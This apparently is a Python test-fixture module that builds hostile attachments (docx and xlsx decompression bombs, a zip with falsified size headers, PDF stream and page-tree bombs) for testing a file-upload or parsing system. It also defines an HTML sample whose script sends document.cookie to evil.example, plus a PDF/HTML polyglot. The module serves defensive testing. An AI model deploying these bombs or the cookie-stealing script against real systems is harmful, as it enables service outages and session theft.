"""Hostile attachments made here: archive bombs (docx, xlsx), PDF bombs, polyglots. Each is built in
chunks, so that making a bomb never holds its expanded size in the test's memory."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterable

from detail_samples import FONT, PAGE, docx_bytes, pdf_of, stream, xlsx_bytes

MB = 1_000_000
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def with_member(
    base: bytes, name: str, chunks: Iterable[bytes], *, extra: dict[str, bytes] | None = None
) -> bytes:
    """The zip `base` with member `name` replaced by (or added as) `chunks`, plus `extra` members."""
    src = zipfile.ZipFile(io.BytesIO(base))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in src.infolist():
            if info.filename != name:
                archive.writestr(info, src.read(info))
        with archive.open(name, "w", force_zip64=True) as member:
            for chunk in chunks:
                member.write(chunk)
        for extra_name, data in (extra or {}).items():
            archive.writestr(extra_name, data)
    return out.getvalue()


def docx_bomb(paragraphs: int = 200, size: int = MB) -> bytes:
    """The issue's docx: `paragraphs` paragraphs of `size` letters each (200 x 1 MB: 200 MB of XML)."""
    head = f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{W_NS}"><w:body>'.encode()
    para = b"<w:p><w:r><w:t>" + b"a" * size + b"</w:t></w:r></w:p>"
    body = (para for _ in range(paragraphs))
    return with_member(docx_bytes("cover"), "word/document.xml", [head, *body, b"</w:body></w:document>"])


def xlsx_bomb(rows: int = 300_000) -> bytes:
    """A workbook whose first sheet has `rows` rows of ten cells (300,000: 140 MB of XML from 0.8 MB)."""
    row = "".join(f'<c t="inlineStr"><is><t>{"x" * 8}</t></is></c>' for _ in range(10)).encode()
    head = f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{S_NS}"><sheetData>'.encode()
    body = (b"<row>" + row + b"</row>" for _ in range(rows))
    return with_member(
        xlsx_bytes(("a", 1)), "xl/worksheets/sheet1.xml", [head, *body, b"</sheetData></worksheet>"]
    )


def understated(archive: bytes, name: str, declared: int) -> bytes:
    """`archive` whose member `name` claims to expand to `declared` bytes only (central directory and local
    header), with the checksum of those first bytes, as a bomb that hides its size would."""
    with zipfile.ZipFile(io.BytesIO(archive)) as z:
        info = z.getinfo(name)
        crc = zlib.crc32(z.read(name)[:declared])
    data = bytearray(archive)
    local = info.header_offset
    struct.pack_into("<I", data, local + 14, crc)
    struct.pack_into("<I", data, local + 22, declared)
    central = data.index(b"PK\x01\x02")
    while bytes(data[central + 46 : central + 46 + len(name)]) != name.encode():
        central = data.index(b"PK\x01\x02", central + 4)
    struct.pack_into("<I", data, central + 16, crc)
    struct.pack_into("<I", data, central + 24, declared)
    return bytes(data)


def pdf_stream_bomb(megabytes: int = 300) -> bytes:
    """A one-page PDF whose content stream inflates to `megabytes` MB (spaces after one line of text)."""
    deflate = zlib.compressobj(9)
    parts = [deflate.compress(b"BT /F1 12 Tf 72 700 Td (bomb) Tj ET\n")]
    parts += [deflate.compress(b" " * MB) for _ in range(megabytes)]
    parts.append(deflate.flush())
    pages = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    return pdf_of(
        [b"<< /Type /Catalog /Pages 2 0 R >>", pages, PAGE, stream(b"".join(parts), deflated=True), FONT]
    )


def pdf_many_pages(pages: int) -> bytes:
    """A PDF of `pages` pages that all show the same page object (a few bytes per page)."""
    kids = b"[" + b" ".join([b"3 0 R"] * pages) + b"]"
    tree = b"<< /Type /Pages /Kids " + kids + b" /Count " + str(pages).encode() + b" >>"
    text = b"BT /F1 12 Tf 72 700 Td (Maintenance contract page) Tj ET\n"
    return pdf_of([b"<< /Type /Catalog /Pages 2 0 R >>", tree, PAGE, stream(text), FONT])


def pdf_page_tree(pages: int, fan: int = 300) -> bytes:
    """A PDF of `pages` distinct page objects under intermediate page-tree nodes of `fan` kids each, which
    inherit their resources and media box: about 100 bytes and over 0.1 ms of parsing per page."""
    nodes = (pages + fan - 1) // fan
    first_node, first_page = 5, 5 + nodes
    node_refs = b" ".join(f"{first_node + i} 0 R".encode() for i in range(nodes))
    root = (
        b"<< /Type /Pages /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> /Kids ["
        + node_refs
        + f"] /Count {pages} >>".encode()
    )
    text = stream(b"BT /F1 12 Tf 72 700 Td (Maintenance contract page) Tj ET\n")
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", root, text, FONT]
    for node in range(nodes):
        kids = range(first_page + node * fan, min(first_page + (node + 1) * fan, first_page + pages))
        refs = b" ".join(f"{kid} 0 R".encode() for kid in kids)
        objects.append(b"<< /Type /Pages /Parent 2 0 R /Kids [" + refs + f"] /Count {len(kids)} >>".encode())
    objects += [
        f"<< /Type /Page /Parent {first_node + p // fan} 0 R /Contents 3 0 R >>".encode()
        for p in range(pages)
    ]
    return pdf_of(objects)


HTML_PDF = b"%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>\n"
HTML_TEXT = b"<html><script>fetch('https://evil.example/'+document.cookie)</script></html>\n"
